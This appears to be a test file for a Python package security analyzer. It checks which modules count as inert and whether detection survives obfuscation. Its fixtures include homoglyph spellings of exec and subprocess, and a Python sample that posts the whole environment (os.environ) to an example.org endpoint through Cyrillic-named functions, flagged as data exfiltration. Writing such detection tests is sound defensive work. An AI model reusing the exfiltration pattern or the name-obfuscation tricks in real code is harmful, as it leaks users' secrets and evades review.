/** Modules of a package that are not interpreted would not have led to a finding. */
import { strict as assert } from 'node:assert';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { createProject } from '../../server/src/analysis/create';
import { isInert } from '../../server/src/dataflow/inert';
import { DEFAULT_SETTINGS } from '../../server/src/analysis/settings';
import { DEFAULT_CATALOG } from '../../server/src/catalog/lookup';
import { loadParsers } from '../../server/src/platform/node-grammars';
import type { Parsers } from '../../server/src/syntax/parser';

const suites = join(__dirname, '../suites');
const blocks = readdirSync(suites, { recursive: true, encoding: 'utf8' })
  .filter((name) => name.endsWith('.md'))
  .flatMap((name) => [...readFileSync(join(suites, name), 'utf8').matchAll(/^```python\n([\s\S]*?)^```$/gm)].map((hit) => ({ name, text: hit[1]! })));

describe('modules that cannot act', () => {
  let parsers: Parsers;
  before(async () => {
    parsers = await loadParsers();
  });

  const findingsOf = (text: string): string[] => {
    const project = createProject(parsers, { ...DEFAULT_SETTINGS, wholePackage: true });
    project.set('pkg/__init__.py', { kind: 'text', text });
    return project.snapshot().report().findings.filter(({ persona, rule }) => persona === 'regular' && rule !== 'not-analysed').map(({ rule, message }) => `${rule} ${message}`);
  };

  it('are those that name nothing to act with', () => {
    for (const text of ['', 'import re\nimport os.path\nX = re.compile("a")\n', 'class A:\n    def eval_all(self):\n        return self.system_name\n']) assert.equal(isInert(text, DEFAULT_CATALOG), true, text);
    for (const text of ['import subprocess', 'import os; os.system', 'exec("")', 'getattr(x, "a" + "b")', 'URL = "https://example.org"', 'A = "\\x65\\x78"']) assert.equal(isInert(text, DEFAULT_CATALOG), false, text);
  });

  it('are not those that write its name in other letters', () => {
    for (const text of ['ｅｘｅｃ("")', 'import ｓubprocess']) assert.equal(isInert(text, DEFAULT_CATALOG), false, text);
  });

  it('are silent in every suite, though they be interpreted', () => {
    const inert = blocks.filter(({ text }) => isInert(text, DEFAULT_CATALOG));
    assert.ok(inert.length > 20, `${inert.length} of ${blocks.length}`);
    // A comment that names a module is enough to have it interpreted.
    for (const { name, text } of inert) assert.deepEqual(findingsOf(`${text}\n# subprocess\n`), [], `${name}\n${text}`);
  });

  it('have functions that are run for constants alone, which loses nothing in any suite', () => {
    // Naming a module makes a function one that may act, so that every call of it is run.
    const acting = (text: string): string => text.replace(/^([ \t]*(?:async )?def .*:)[ \t]*$/gm, '$1  # subprocess');
    let changed = 0;
    for (const { name, text } of blocks) {
      if (acting(text) === text) continue;
      changed++;
      assert.deepEqual(findingsOf(text), findingsOf(acting(text)), `${name}\n${text}`);
    }
    assert.ok(changed > 100, `${changed} of ${blocks.length}`);
  }).timeout(120_000);

  it('follow names that are not in Latin letters', () => {
    assert.deepEqual(findingsOf('import os, requests\n\ndef отправить(данные):\n    requests.post("https://example.org/in", json=данные)\n\ndef вечером(что):\n    отправить([что])\n\ndef ночью():\n    вечером(dict(os.environ))\n').map((one) => one.split(' ')[0]), ['data-exfiltration']);
  });
});
